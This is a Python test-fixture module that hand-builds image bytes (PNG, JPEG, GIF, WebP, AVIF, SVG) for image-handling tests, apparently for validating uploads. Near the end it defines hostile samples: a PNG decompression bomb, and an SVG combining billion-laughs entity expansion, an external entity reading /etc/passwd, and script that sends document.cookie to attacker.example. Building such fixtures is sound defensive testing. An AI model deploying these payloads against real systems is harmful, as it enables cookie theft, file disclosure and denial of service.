"""Real image bytes made in the tests: PNG, JPEG, GIF, WebP, AVIF and SVG, hostile ones too.

Every picture is built here from its format's specification (no image library), so
the tests know exactly what each holds: a valid PNG of any size, a baseline JPEG of
any size (one grey block per 8 × 8 pixels), the smallest real WebP files (lossy and
lossless, the ones browsers use to test support), an AVIF header, SVG documents,
an SVG that tries to run script and expand entities, and a PNG decompression bomb.
"""

from __future__ import annotations

import base64
import struct
import zlib


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 4, height: int = 3, colour: tuple[int, int, int] = (200, 40, 40)) -> bytes:
    """A valid RGB PNG of one colour."""
    row = b"\x00" + bytes(colour) * width
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(row * height))
        + _chunk(b"IEND", b"")
    )


def bomb_png(side: int = 12_000) -> bytes:
    """A real 1-bit PNG of ``side`` × ``side`` pixels (144 megapixels by default) that
    compresses to a few kilobytes: it decodes to 18 MB, or 576 MB as RGBA."""
    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", data)
        + _chunk(b"IEND", b"")
    )


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def jpeg(width: int = 16, height: int = 8) -> bytes:
    """A baseline greyscale JPEG, mid-grey: every block's coefficients are zero, coded
    with one-symbol Huffman tables (a DC difference of 0, then end of block)."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    bits = "00" * blocks
    bits += "1" * (-len(bits) % 8)
    scan = int(bits, 2).to_bytes(len(bits) // 8, "big") if bits else b""
    one_code = bytes([1] + [0] * 15)
    return b"".join(
        [
            b"\xff\xd8",
            _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
            _segment(0xDB, b"\x00" + bytes([1] * 64)),
            _segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"),
            _segment(0xC4, b"\x00" + one_code + b"\x00" + b"\x10" + one_code + b"\x00"),
            _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
            scan,
            b"\xff\xd9",
        ]
    )


GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)


def _riff(chunk: bytes, payload: bytes) -> bytes:
    body = chunk + struct.pack("<I", len(payload)) + payload + b"\x00" * (len(payload) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def webp_lossless() -> bytes:
    """The 1 × 1 lossless WebP browsers decode to test for WebP support."""
    return _riff(b"VP8L", base64.b64decode("LwAAABAHEBERiIj+BwA="))


def webp_lossy() -> bytes:
    """The 1 × 1 lossy WebP of the same support tests."""
    return _riff(b"VP8 ", base64.b64decode("MAEAnQEqAQABAA7A/iWkAANwAAAAAA=="))


def webp_extended(width: int, height: int) -> bytes:
    """An extended (VP8X) WebP header stating ``width`` × ``height``."""
    sizes = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return _riff(b"VP8X", b"\x00\x00\x00\x00" + sizes)


def avif(width: int = 640, height: int = 480) -> bytes:
    """An AVIF's opening boxes: its brands, and the image spatial extent property."""
    ftyp = struct.pack(">I", 28) + b"ftypavif" + b"\x00\x00\x00\x00" + b"avifmif1miaf"
    ispe = struct.pack(">I", 20) + b"ispe" + b"\x00\x00\x00\x00" + struct.pack(">II", width, height)
    return ftyp + struct.pack(">I", 8 + len(ispe)) + b"meta" + ispe


def svg(width: int = 120, height: int = 80) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        f'width="{width}" height="{height}"><rect width="{width}" height="{height}" '
        'fill="#c33"/></svg>\n'
    ).encode()


#: An SVG that would run script when rendered and expand a billion entities when parsed.
HOSTILE_SVG = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY x SYSTEM "file:///etc/passwd">
]>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)" width="10" height="10">
<script>fetch('https://attacker.example/?c=' + document.cookie)</script>
<text>&e;&x;</text>
</svg>
"""
